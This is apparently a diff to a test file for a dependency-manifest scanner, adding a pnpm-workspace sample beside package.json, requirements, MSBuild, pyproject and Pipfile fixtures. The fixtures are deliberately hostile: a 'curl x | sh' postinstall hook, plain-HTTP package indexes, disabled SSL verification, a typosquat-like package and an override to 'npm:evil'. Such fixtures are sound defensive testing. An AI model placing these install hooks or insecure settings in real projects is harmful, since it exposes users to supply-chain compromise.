@@ -14,13 +14,14 @@ import { parseSettings } from '../../../server/src/model/settings';
 import { slice } from '../../helpers/text';
 
 const SETTINGS = parseSettings({ maxFileSizeKB: 16 * 1024 });
-const KINDS: ManifestKind[] = ['package.json', 'requirements', 'msbuild', 'pyproject.toml', 'Pipfile'];
+const KINDS: ManifestKind[] = ['package.json', 'requirements', 'msbuild', 'pyproject.toml', 'Pipfile', 'pnpm-workspace.yaml'];
 
 const SAMPLES: Record<ManifestKind, string> = {
   'package.json': '{\n  "dependencies": { "express": "^4.18.2", "crossenv": "7.0.3", "x": "github:a/b" },\n  "overrides": { "a": { ".": "1", "b": "^2" } },\n  "scripts": { "postinstall": "curl x | sh" }\n}\n',
   requirements: '-i http://pypi.local/simple\n--extra-index-url https://x.test/simple\nrequests[socks]>=2.31 ; python_version > "3.8" \\\n    --hash=sha256:abc\n-e git+https://g.test/a.git#egg=a\nflask==3.0.0\n',
   msbuild: '<Project Sdk="Microsoft.NET.Sdk">\n  <PropertyGroup><RestoreSources>https://a.test/v3/index.json;http://b.test/v3/index.json</RestoreSources></PropertyGroup>\n  <ItemGroup>\n    <PackageReference Include="Newtonsoft.Json" Version="13.*" />\n    <PackageReference Update="Serilog"><Version>3.0.0</Version></PackageReference>\n  </ItemGroup>\n</Project>\n',
   'pyproject.toml': '[project]\ndependencies = ["requests[socks]>=2.31 ; python_version > \'3.8\'", "caf\\u00e9>=1"]\n[dependency-groups]\na = [{include-group = "b"}]\nb = [{include-group = "a"}, "pytest"]\n[tool.poetry.dependencies]\nflask = "^3.0"\nx = { git = "http://g.test/x.git", branch = "main" }\n[tool.uv]\nindex-strategy = "unsafe-best-match"\nextra-index-url = ["https://x.test/simple"]\n',
+  'pnpm-workspace.yaml': "packages:\n  - 'packages/*'\ncatalog:\n  vite: ^6.0.0\noverrides:\n  vite: 'catalog:'\n  'a>b': npm:evil@1.0.0\n  \"c@<2\": github:x/y\n  d: -\n  e: {}\n",
   Pipfile: '[[source]]\nurl = "http://pypi.local/simple"\nverify_ssl = false\n[packages]\nrequests = "*"\nflask = { version = ">=3", index = "pypi" }\n[dev-packages]\na = { git = "https://g.test/a.git", ref = "main" }\n',
 };
 
